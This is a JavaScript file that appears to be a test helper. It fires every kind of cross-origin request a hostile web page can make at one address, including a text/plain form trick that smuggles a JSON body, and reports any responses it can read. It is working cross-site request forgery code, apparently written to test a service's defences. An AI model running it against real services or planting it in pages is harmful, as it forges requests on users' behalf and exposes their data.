/**
 * What a hostile page can do to one address, in every way that a page has.
 *
 * @returns the answers that it could read.
 */
async function attack(url, body, headers) {
  const read = []
  const tries = [
    { method: 'GET', mode: 'no-cors' },
    { method: 'GET' },
    { method: 'GET', credentials: 'include' },
    { method: 'GET', referrerPolicy: 'no-referrer' },
    { method: 'POST', mode: 'no-cors', body },
    { method: 'POST', mode: 'no-cors', body, referrerPolicy: 'no-referrer' },
    { method: 'POST', mode: 'no-cors', body: new URLSearchParams(body) },
    { method: 'POST', body },
    { method: 'POST', body, headers },
    { method: 'PUT', body, headers },
    { method: 'DELETE' },
  ]
  for (const init of tries) {
    const answer = await fetch(url, init).catch(() => undefined)
    const text = await answer?.text().catch(() => '')
    if (text) read.push(text)
  }
  navigator.sendBeacon(url, body)
  for (const name of ['img', 'script', 'iframe']) await loaded(name, { src: url })
  await loaded('link', { rel: 'stylesheet', href: url })
  for (const enctype of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data']) {
    await submitted(url, body, enctype)
  }
  return read
}

function loaded(name, properties) {
  return new Promise((resolve) => {
    const element = Object.assign(document.createElement(name), properties)
    element.onload = resolve
    element.onerror = resolve
    document.body.append(element)
  })
}

/** As text/plain a form goes out as NAME=VALUE: here with the whole body as the name. */
function submitted(action, body, enctype) {
  const frame = document.createElement('iframe')
  frame.name = `frame-${document.forms.length}`
  document.body.append(frame)
  const form = Object.assign(document.createElement('form'), {
    action,
    method: 'POST',
    enctype,
    target: frame.name,
  })
  form.append(Object.assign(document.createElement('input'), { name: body, value: '' }))
  document.body.append(form)
  return new Promise((resolve) => {
    frame.onload = resolve
    form.submit()
  })
}

globalThis.attack = attack
